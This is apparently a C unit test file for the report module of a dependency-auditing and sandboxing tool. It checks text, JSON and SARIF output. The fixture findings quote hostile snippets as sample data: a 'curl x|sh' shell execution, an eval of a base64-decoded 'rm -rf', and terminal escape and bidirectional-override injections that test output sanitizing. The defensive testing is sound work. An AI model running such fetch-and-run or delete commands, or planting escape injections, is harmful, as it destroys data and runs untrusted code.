/*
 * core/report: golden texts, the JSON contracts, the structure of SARIF.
 *
 * IGNITE_UPDATE_GOLDEN=1 writes tests/data/report anew.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "core/base/json.h"
#include "core/base/text.h"
#include "core/report/report.h"
#include "tests/unit/scratch.h"

static const struct ig_rule rules[] = {
    {"test-exec", IG_CAP_EXEC, IG_SEV_CRITICAL, "runs a program", "A program can do what it likes.",
        "process.spawn: allow"},
    {"test-net", IG_CAP_NET, IG_SEV_HIGH, "opens a connection", "Data can leave.", NULL},
    {"test-env", IG_CAP_ENV, IG_SEV_LOW, "reads the environment", "It may hold keys.", NULL},
    {"test-gap", IG_CAP_GAP, IG_SEV_INFO, "was not analysed whole", "What is there is not known.",
        NULL},
};

#define F(rule, severity, confidence, file, line, column, end_line, end_column, excerpt, value,    \
    message, package)                                                                              \
	{                                                                                          \
		&rules[rule], severity, confidence, (char *)(file), line, column, end_line,        \
		    end_column, (char *)(excerpt), (char *)(value), (char *)(message),             \
		    (char *)(package)                                                              \
	}

static struct ig_finding findings[] = {
    F(0, IG_SEV_CRITICAL, IG_CONF_CERTAIN, "index.js", 3, 5, 3, 26, "execSync('curl x|sh')", NULL,
        "runs 'curl x|sh' through a shell", ""),
    F(0, IG_SEV_CRITICAL, IG_CONF_LIKELY, "node_modules/a b/\xff\"%.js", 88, 1, 90, 2,
        "eval(atob(\n'cm0gLXJm'))", "rm -rf \xe2\x80\xae/ \033]0;owned\007", "runs what it decodes",
        "a b"),
    F(1, IG_SEV_HIGH, IG_CONF_POSSIBLE, "lib/net.js", 1, 1, 1, 9, "connect(1)", NULL, NULL, ""),
    F(2, IG_SEV_LOW, IG_CONF_CERTAIN, "index.js", 1, 1, 1, 12, "process.env", NULL,
        "reads all of the environment", ""),
    F(3, IG_SEV_INFO, IG_CONF_CERTAIN, "big.bin", 0, 0, 0, 0, "", NULL, "is larger than 16 MiB",
        ""),
};

static struct ig_tree_skip skipped[] = {
    {(char *)"big.bin", (char *)"larger than 16 MiB"},
    {(char *)"link\n", (char *)"a symbolic link"},
};

static const struct ig_runtime runtime = {
    .name = "node", .version = "20", .image = "ignite-tui/node:20"};

static struct ig_service service = {
    .name = (char *)"checkout\033[2J-api",
    .path = (char *)"/srv/check out",
    .runtime_spec = (char *)"node@20",
    .runtime = &runtime,
    .entry = (char *)"index.js",
};

static struct ig_audit_result full(void)
{
	struct ig_audit_result r = {
	    .manifest = {.files = 12, .bytes = 34567},
	    .finding = findings,
	    .n = IG_COUNT(findings),
	    .parsed = 10,
	    .skipped = skipped,
	    .skipped_n = IG_COUNT(skipped),
	    .duration_ms = 1234,
	};

	memset(r.manifest.digest, 'a', 64);
	for (size_t i = 0; i < r.n; i++) {
		r.by_severity[findings[i].severity]++;
		r.by_capability[findings[i].rule->capability]++;
	}
	return r;
}

static struct ig_audit_result none(void)
{
	struct ig_audit_result r = {.manifest = {.files = 1, .bytes = 20}, .parsed = 1};

	memset(r.manifest.digest, 'b', 64);
	return r;
}

static void assert_golden(const char *name, const struct ig_buf *got)
{
	ig_auto_free char *rel = ig_asprintf("report/%s", name);
	ig_auto_free char *path = scratch_data(rel);
	ig_auto_buf want = IG_BUF_INIT(0);

	if (getenv("IGNITE_UPDATE_GOLDEN"))
		assert_int_equal(ig_write_atomic(path, ig_buf_str(got), got->len, 0644, NULL), 0);
	assert_int_equal(ig_read_path(path, 1 << 20, &want, NULL), 0);
	assert_string_equal(ig_buf_str(got), ig_buf_str(&want));
}

/* Nothing but newlines may move a cursor. */
static void assert_harmless(const struct ig_buf *b)
{
	const char *s = ig_buf_str(b);
	size_t n = b->len, used;
	struct ig_text_unit u;

	for (; (used = ig_text_next(s, n, 0, &u)) != 0; s += used, n -= used)
		assert_true(u.kind == IG_TEXT_PLAIN || *s == '\n');
}

static json_t *parse(const struct ig_buf *b)
{
	ig_err *e = NULL;
	json_t *v = ig_json_parse(ig_buf_str(b), b->len, 32, IG_JSON_REJECT_DUPLICATES, &e);

	if (!v)
		fail_msg("%s", ig_err_msg(e));
	return v;
}

static void audit_texts(void **state)
{
	struct ig_audit_result f = full(), n = none();
	ig_auto_buf utf8 = IG_BUF_INIT(0);
	ig_auto_buf ascii = IG_BUF_INIT(0);
	ig_auto_buf empty = IG_BUF_INIT(0);

	(void)state;
	ig_report_audit_text(&service, &f, 0, &utf8);
	assert_harmless(&utf8);
	assert_golden("audit.txt", &utf8);
	ig_report_audit_text(&service, &f, IG_TEXT_ASCII, &ascii);
	for (size_t i = 0; i < ascii.len; i++)
		assert_true(
		    ascii.data[i] == '\n' || (ascii.data[i] >= 0x20 && ascii.data[i] < 0x7f));
	assert_golden("audit-ascii.txt", &ascii);
	ig_report_audit_text(&service, &n, 0, &empty);
	assert_golden("audit-empty.txt", &empty);
}

static void audit_text_counts_what_it_leaves_out(void **state)
{
	struct ig_finding many[100];
	struct ig_audit_result r = none();
	ig_auto_buf out = IG_BUF_INIT(0);

	(void)state;
	for (size_t i = 0; i < IG_COUNT(many); i++)
		many[i] = findings[3];
	r.finding = many;
	r.n = IG_COUNT(many);
	r.by_severity[IG_SEV_LOW] = IG_COUNT(many);
	ig_report_audit_text(&service, &r, 0, &out);
	assert_non_null(strstr(ig_buf_str(&out), "LOW (100)"));
	assert_non_null(strstr(ig_buf_str(&out), "and 80 more (--format json lists all)"));
}

static void audit_json(void **state)
{
	struct ig_audit_result r = full();
	ig_auto_buf out = IG_BUF_INIT(0);
	ig_auto_buf again = IG_BUF_INIT(0);
	ig_auto_json v = NULL;

	(void)state;
	ig_report_audit_json(&service, &r, &out);
	r.duration_ms = 99; /* no clock in it */
	ig_report_audit_json(&service, &r, &again);
	assert_string_equal(ig_buf_str(&out), ig_buf_str(&again));
	assert_golden("audit.json", &out);
	v = parse(&out);
	assert_string_equal(ig_json_str(v, "schema", ""), "ignite-tui/audit/1");
	assert_int_equal(json_array_size(json_object_get(v, "findings")), IG_COUNT(findings));
	assert_int_equal(json_object_size(json_object_get(v, "capabilities")), IG_CAP_N);
	assert_int_equal(json_integer_value(ig_json_at(v, "summary.critical")), 2);
	assert_string_equal(json_string_value(ig_json_at(v, "service.name")), service.name);
	assert_null(json_object_get(json_array_get(json_object_get(v, "findings"), 0), "value"));
}

static void broken_service_still_reports(void **state)
{
	struct ig_service s = {.name = (char *)"x", .path = (char *)"/x"};
	struct ig_audit_result r = none();
	ig_auto_buf text = IG_BUF_INIT(0);
	ig_auto_buf json = IG_BUF_INIT(0);
	ig_auto_json v = NULL;

	(void)state;
	ig_report_audit_text(&s, &r, 0, &text);
	assert_non_null(strstr(ig_buf_str(&text), "Runtime   unknown\n"));
	ig_report_audit_json(&s, &r, &json);
	v = parse(&json);
	assert_true(json_is_null(ig_json_at(v, "service.runtime")));
	assert_true(json_is_null(ig_json_at(v, "service.entry")));
}

/* Required members and their types in the SARIF 2.1.0 schema, for what we write. */
struct member {
	const char *name;
	json_type type;
	bool required;
};

static void assert_object(const json_t *o, const struct member *m)
{
	const char *key;
	json_t *v;

	assert_true(json_is_object(o));
	for (const struct member *k = m; k->name; k++) {
		v = json_object_get(o, k->name);
		if (k->required)
			assert_non_null(v);
		if (v)
			assert_int_equal(json_typeof(v), k->type);
	}
	/* The schema has additionalProperties: false everywhere. */
	json_object_foreach((json_t *)o, key, v)
	{
		const struct member *k = m;

		while (k->name && strcmp(k->name, key) != 0)
			k++;
		if (!k->name)
			fail_msg("'%s' is not in the schema there", key);
	}
}

static void assert_location(const json_t *o)
{
	static const struct member location[] = {{"physicalLocation", JSON_OBJECT, true}, {0}};
	static const struct member physical[] = {
	    {"artifactLocation", JSON_OBJECT, true}, {"region", JSON_OBJECT, false}, {0}};
	static const struct member artifact[] = {
	    {"uri", JSON_STRING, true}, {"uriBaseId", JSON_STRING, false}, {0}};
	static const struct member region[] = {{"startLine", JSON_INTEGER, true},
	    {"startColumn", JSON_INTEGER, true}, {"endLine", JSON_INTEGER, true},
	    {"endColumn", JSON_INTEGER, true}, {"snippet", JSON_OBJECT, false}, {0}};
	const json_t *p = json_object_get(o, "physicalLocation"), *r;
	const char *uri;

	assert_object(o, location);
	assert_object(p, physical);
	assert_object(json_object_get(p, "artifactLocation"), artifact);
	uri = ig_json_str(json_object_get(p, "artifactLocation"), "uri", "");
	assert_int_equal(
	    strspn(uri, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	                "-._~/%"),
	    strlen(uri));
	r = json_object_get(p, "region");
	if (!r)
		return;
	assert_object(r, region);
	assert_true(ig_json_int(r, "startLine", 0) >= 1);
	assert_true(ig_json_int(r, "startColumn", 0) >= 1);
	assert_true(ig_json_int(r, "endLine", 0) >= ig_json_int(r, "startLine", 0));
}

static bool is_level(const json_t *o)
{
	const char *l = ig_json_str(o, "level", "");

	return strcmp(l, "note") == 0 || strcmp(l, "warning") == 0 || strcmp(l, "error") == 0;
}

static void assert_result(const json_t *o)
{
	static const struct member result[] = {{"ruleId", JSON_STRING, true},
	    {"ruleIndex", JSON_INTEGER, false}, {"level", JSON_STRING, true},
	    {"message", JSON_OBJECT, true}, {"locations", JSON_ARRAY, true},
	    {"partialFingerprints", JSON_OBJECT, true}, {"properties", JSON_OBJECT, true}, {0}};

	assert_object(o, result);
	assert_true(is_level(o));
	assert_true(*ig_json_str(json_object_get(o, "message"), "text", ""));
	assert_int_equal(json_array_size(json_object_get(o, "locations")), 1);
	assert_location(json_array_get(json_object_get(o, "locations"), 0));
}

static void assert_driver(const json_t *o)
{
	static const struct member driver[] = {{"name", JSON_STRING, true},
	    {"version", JSON_STRING, true}, {"rules", JSON_ARRAY, true}, {0}};
	static const struct member rule[] = {{"id", JSON_STRING, true},
	    {"shortDescription", JSON_OBJECT, true}, {"fullDescription", JSON_OBJECT, true},
	    {"defaultConfiguration", JSON_OBJECT, true}, {"properties", JSON_OBJECT, true}, {0}};
	json_t *v, *all = json_object_get(o, "rules");
	size_t i;

	assert_object(o, driver);
	assert_int_equal(json_array_size(all), ig_rules_n);
	json_array_foreach(all, i, v)
	{
		assert_object(v, rule);
		assert_true(is_level(json_object_get(v, "defaultConfiguration")));
	}
}

static void sarif(void **state)
{
	static const struct member log[] = {{"$schema", JSON_STRING, true},
	    {"version", JSON_STRING, true}, {"runs", JSON_ARRAY, true}, {0}};
	static const struct member run[] = {{"tool", JSON_OBJECT, true},
	    {"invocations", JSON_ARRAY, true}, {"originalUriBaseIds", JSON_OBJECT, true},
	    {"columnKind", JSON_STRING, true}, {"results", JSON_ARRAY, true},
	    {"properties", JSON_OBJECT, true}, {0}};
	static const struct member invocation[] = {{"executionSuccessful", JSON_TRUE, true},
	    {"toolExecutionNotifications", JSON_ARRAY, true}, {0}};
	static const struct member notification[] = {{"level", JSON_STRING, true},
	    {"message", JSON_OBJECT, true}, {"locations", JSON_ARRAY, true}, {0}};
	struct ig_audit_result r = full();
	ig_auto_buf out = IG_BUF_INIT(0);
	json_t *one, *v, *call;
	ig_auto_json o = NULL;
	size_t i;

	(void)state;
	ig_report_audit_sarif(&service, &r, &out);
	o = parse(&out);
	assert_object(o, log);
	assert_string_equal(ig_json_str(o, "version", ""), "2.1.0");
	assert_int_equal(json_array_size(json_object_get(o, "runs")), 1);
	one = json_array_get(json_object_get(o, "runs"), 0);
	assert_object(one, run);
	assert_driver(ig_json_at(one, "tool.driver"));
	assert_string_equal(ig_json_str(one, "columnKind", ""), "unicodeCodePoints");
	assert_string_equal(json_string_value(ig_json_at(one, "originalUriBaseIds.SRCROOT.uri")),
	    "file:///srv/check%20out/");
	assert_int_equal(json_array_size(json_object_get(one, "results")), r.n);
	json_array_foreach(json_object_get(one, "results"), i, v) assert_result(v);
	v = json_array_get(json_object_get(one, "results"), 1);
	v = json_array_get(json_object_get(v, "locations"), 0);
	assert_string_equal(
	    json_string_value(ig_json_at(v, "physicalLocation.artifactLocation.uri")),
	    "node_modules/a%20b/%FF%22%25.js");
	call = json_array_get(json_object_get(one, "invocations"), 0);
	assert_object(call, invocation);
	v = json_object_get(call, "toolExecutionNotifications");
	assert_int_equal(json_array_size(v), 2);
	json_array_foreach(json_object_get(call, "toolExecutionNotifications"), i, v)
	{
		assert_object(v, notification);
		assert_location(json_array_get(json_object_get(v, "locations"), 0));
	}
}

static void rules_are_listed(void **state)
{
	ig_auto_buf all = IG_BUF_INIT(0);
	ig_auto_buf one = IG_BUF_INIT(0);
	size_t lines = 0;

	(void)state;
	ig_report_rules_text(&all);
	for (size_t i = 0; i < all.len; i++)
		lines += all.data[i] == '\n';
	assert_int_equal(lines, ig_rules_n);
	ig_report_rule_text(&rules[0], &one);
	assert_string_equal(ig_buf_str(&one),
	    "test-exec: runs a program\n\nSeverity    critical\nCapability  exec\n"
	    "Why         A program can do what it likes.\nPolicy      process.spawn: allow\n");
}

/* A run of a service that printed two lines, with figures. */
struct world {
	struct ig_audit_result audit;
	struct ig_policy *policy;
	struct ig_plan plan;
	struct ig_plan_note note;
	struct ig_run_info info;
	ig_logstore *log;
	ig_series *series;
	struct ig_run_event event[1];
	struct ig_report_run run;
};

static void world_new(struct world *w)
{
	static const struct ig_sample samples[] = {
	    {.v = {[IG_M_CPU_USAGE] = 310000,
	         [IG_M_CPU_THROTTLED_TIME] = 20000,
	         [IG_M_MEM_PEAK] = 35 << 20,
	         [IG_M_PIDS_PEAK] = 11},
	        .have = 1u << IG_M_CPU_USAGE | 1u << IG_M_CPU_THROTTLED_TIME | 1u << IG_M_MEM_PEAK |
	                1u << IG_M_PIDS_PEAK},
	    {.v = {[IG_M_CPU_USAGE] = 350000}, .have = 1u << IG_M_CPU_USAGE},
	};

	*w = (struct world){.audit = full()};
	w->policy = ig_policy_new("audit", NULL);
	assert_non_null(w->policy);
	assert_int_equal(ig_policy_set(w->policy, IG_P_MEMORY, "64M", IG_LAYER_CLI, NULL), 0);
	assert_int_equal(ig_policy_set(w->policy, IG_P_PIDS, "64", IG_LAYER_CLI, NULL), 0);
	w->note = (struct ig_plan_note){"env", (char *)"left out:\tA\033B"};
	w->plan = (struct ig_plan){.note = &w->note,
	    .note_n = 1,
	    .run_id = (char *)"0123456789ab",
	    .container_name = (char *)"ignite-tui-0123456789ab",
	    .timeout_ms = 5000,
	    .output_bytes = 1 << 20};
	w->log = ig_logstore_new(1 << 20, NULL);
	ig_logstore_add(w->log, IG_STDOUT, "hello\n", 6, NULL);
	ig_logstore_add(w->log, IG_STDERR, "\033[31mbad\xff", 9, NULL);
	w->series = ig_series_new(16);
	for (size_t i = 0; i < IG_COUNT(samples); i++)
		ig_series_add(w->series, &samples[i]);
	w->event[0] = (struct ig_run_event){.t_ms = 410,
	    .kind = "limit",
	    .verdict = "killed",
	    .source = "cgroup",
	    .target = (char *)"memory 64M",
	    .count = 2};
	w->info = (struct ig_run_info){.state = IG_RUN_ENDED,
	    .reason = IG_REASON_EXITED,
	    .started_ms = 1000,
	    .duration_ms = 412,
	    .cgroup_kind = "v2",
	    .series = w->series,
	    .log = w->log,
	    .output_bytes = 15,
	    .container_id = "f00d"};
	w->run = (struct ig_report_run){&service, &w->audit, w->policy, &w->plan, &w->info};
}

static void world_done(struct world *w)
{
	ig_logstore_free(w->log);
	ig_series_free(w->series);
	ig_policy_free(w->policy);
}

static void run_texts(void **state)
{
	struct world w;
	ig_auto_buf clean = IG_BUF_INIT(0);
	ig_auto_buf oom = IG_BUF_INIT(0);
	ig_auto_buf lost = IG_BUF_INIT(0);
	ig_auto_err e = NULL;

	(void)state;
	world_new(&w);
	ig_report_run_text(&w.run, 0, &clean);
	assert_harmless(&clean);
	assert_golden("run-clean.txt", &clean);
	w.info.reason = IG_REASON_OOM;
	w.info.exit_code = 137;
	w.info.event = w.event;
	w.info.event_n = 1;
	ig_report_run_text(&w.run, 0, &oom);
	assert_golden("run-oom.txt", &oom);
	ig_err_set(&e, IG_E_DOWN, "the engine \033[2J went away");
	w.info = (struct ig_run_info){.state = IG_RUN_ENDED,
	    .reason = IG_REASON_ENGINE_LOST,
	    .exit_code = -1,
	    .error = e,
	    .leftover = true};
	ig_report_run_text(&w.run, 0, &lost);
	assert_harmless(&lost);
	assert_golden("run-lost.txt", &lost);
	world_done(&w);
}

static void every_reason_has_a_sentence_and_a_status(void **state)
{
	struct world w;

	(void)state;
	world_new(&w);
	for (unsigned reason = 0; reason < IG_REASON_N; reason++) {
		ig_auto_buf out = IG_BUF_INIT(0);
		int want = reason == IG_REASON_EXITED ? 0 : 1;

		if (reason == IG_REASON_ENGINE_LOST || reason == IG_REASON_NOT_STARTED ||
		    reason == IG_REASON_NONE)
			want = 3;
		w.info.reason = reason;
		ig_report_run_text(&w.run, 0, &out);
		assert_null(strstr(ig_buf_str(&out), "Outcome   \n"));
		assert_null(strstr(ig_buf_str(&out), "Outcome   ,"));
		assert_int_equal(ig_report_run_status(&w.info), want);
	}
	w.info.reason = IG_REASON_EXITED;
	w.info.exit_code = 2;
	assert_int_equal(ig_report_run_status(&w.info), 1);
	w.info.exit_code = 0;
	w.info.event = w.event;
	w.info.event_n = 1;
	assert_int_equal(ig_report_run_status(&w.info), 1);
	w.event[0].verdict = "observed";
	assert_int_equal(ig_report_run_status(&w.info), 0);
	w.info.leftover = true;
	assert_int_equal(ig_report_run_status(&w.info), 3);
	world_done(&w);
}

static void run_json(void **state)
{
	static const char *const members[] = {"schema", "id", "service", "snapshot", "policy",
	    "notes", "evidence", "outcome", "limits", "events", "logs"};
	struct world w;
	ig_auto_buf out = IG_BUF_INIT(0);
	ig_auto_json v = NULL;
	size_t i = 0;
	const char *key;
	json_t *x, *line;

	(void)state;
	world_new(&w);
	w.info.event = w.event;
	w.info.event_n = 1;
	ig_report_run_json(&w.run, &out);
	v = parse(&out);
	assert_int_equal(json_object_size(v), IG_COUNT(members));
	json_object_foreach(v, key, x) assert_string_equal(key, members[i++]);
	assert_string_equal(ig_json_str(v, "schema", ""), "ignite-tui/run/1");
	assert_string_equal(ig_json_str(v, "id", ""), "0123456789ab");
	assert_string_equal(json_string_value(ig_json_at(v, "outcome.reason")), "exited");
	assert_int_equal(json_integer_value(ig_json_at(v, "outcome.exit_code")), 0);
	assert_true(json_is_null(ig_json_at(v, "outcome.signal")));
	assert_int_equal(json_integer_value(ig_json_at(v, "limits.memory_peak")), 35 << 20);
	assert_int_equal(json_integer_value(ig_json_at(v, "limits.cpu_ms")), 350);
	assert_int_equal(json_integer_value(ig_json_at(v, "limits.throttled_ms")), 20);
	assert_int_equal(json_integer_value(ig_json_at(v, "limits.output_bytes")), 15);
	assert_int_equal(
	    json_integer_value(ig_json_at(v, "policy.resources.memory.value")), 64 << 20);
	assert_string_equal(json_string_value(ig_json_at(v, "evidence.level")), "limits");
	x = json_array_get(json_object_get(v, "events"), 0);
	assert_string_equal(ig_json_str(x, "verdict", ""), "killed");
	assert_int_equal(ig_json_int(x, "count", 0), 2);
	line = json_array_get(ig_json_at(v, "logs.lines"), 1);
	assert_string_equal(ig_json_str(line, "text", ""), "\033[31mbad\xef\xbf\xbd");
	assert_string_equal(ig_json_str(line, "stream", ""), "stderr");
	world_done(&w);
}

static void run_json_keeps_both_ends_of_a_long_log(void **state)
{
	struct world w;
	ig_auto_buf out = IG_BUF_INIT(0);
	ig_auto_json v = NULL;
	json_t *lines;
	char text[32];

	(void)state;
	world_new(&w);
	ig_logstore_add(w.log, IG_STDERR, "\n", 1, NULL);
	for (unsigned i = 0; i < 5000; i++)
		ig_logstore_add(w.log, IG_STDOUT, text,
		    (size_t)snprintf(text, sizeof(text), "line %u\n", i), NULL);
	ig_report_run_json(&w.run, &out);
	v = parse(&out);
	lines = ig_json_at(v, "logs.lines");
	assert_int_equal(json_array_size(lines), 2 * IG_REPORT_LOG_LINES);
	assert_int_equal(
	    json_integer_value(ig_json_at(v, "logs.omitted_lines")) + 2 * IG_REPORT_LOG_LINES,
	    json_integer_value(ig_json_at(v, "logs.total")));
	assert_string_equal(ig_json_str(json_array_get(lines, 0), "text", ""), "hello");
	assert_string_equal(
	    ig_json_str(json_array_get(lines, 2 * IG_REPORT_LOG_LINES - 1), "text", ""),
	    "line 4999");
	world_done(&w);
}

static void refused_run_names_its_findings(void **state)
{
	struct world w;
	ig_auto_buf out = IG_BUF_INIT(0);
	ig_auto_json v = NULL;

	(void)state;
	world_new(&w);
	w.info = (struct ig_run_info){.reason = IG_REASON_NOT_STARTED, .exit_code = -1};
	w.run.plan = NULL;
	ig_report_run_json(&w.run, &out);
	v = parse(&out);
	assert_string_equal(json_string_value(ig_json_at(v, "outcome.reason")), "not-started");
	assert_true(json_is_null(ig_json_at(v, "outcome.exit_code")));
	assert_true(json_is_null(json_object_get(v, "id")));
	assert_int_equal(json_array_size(json_object_get(v, "findings")), 3);
	world_done(&w);
}

static void policy_text_shows_asked_and_source(void **state)
{
	ig_auto_buf out = IG_BUF_INIT(0);
	ig_auto_buf keys = IG_BUF_INIT(0);
	struct ig_policy *p = ig_policy_new("audit", NULL);

	(void)state;
	assert_int_equal(ig_policy_set(p, IG_P_MEMORY, "96M", IG_LAYER_CLI, NULL), 0);
	p->asked[IG_P_MEMORY] =
	    (struct ig_pvalue){.set = true, .num = 512 << 20, .source = IG_LAYER_SERVICE};
	ig_report_policy_text(&service, p, 0, &out);
	assert_harmless(&out);
	assert_non_null(strstr(ig_buf_str(&out), "for checkout\u241b[2J-api\n"));
	assert_non_null(strstr(ig_buf_str(&out),
	    "resources.memory        96M                     --memory                "
	    "512M  not granted\n"));
	for (unsigned k = 0; k < IG_P_N; k++)
		assert_non_null(strstr(ig_buf_str(&out), ig_policy_keys[k].path));
	ig_report_keys_text(&keys);
	for (unsigned k = 0; k < IG_P_N; k++)
		assert_non_null(strstr(ig_buf_str(&keys), ig_policy_keys[k].help));
	ig_policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(audit_texts),
	    cmocka_unit_test(audit_text_counts_what_it_leaves_out),
	    cmocka_unit_test(audit_json),
	    cmocka_unit_test(broken_service_still_reports),
	    cmocka_unit_test(sarif),
	    cmocka_unit_test(rules_are_listed),
	    cmocka_unit_test(run_texts),
	    cmocka_unit_test(every_reason_has_a_sentence_and_a_status),
	    cmocka_unit_test(run_json),
	    cmocka_unit_test(run_json_keeps_both_ends_of_a_long_log),
	    cmocka_unit_test(refused_run_names_its_findings),
	    cmocka_unit_test(policy_text_shows_asked_and_source),
	};

	return cmocka_run_group_tests_name("report", tests, NULL, NULL);
}
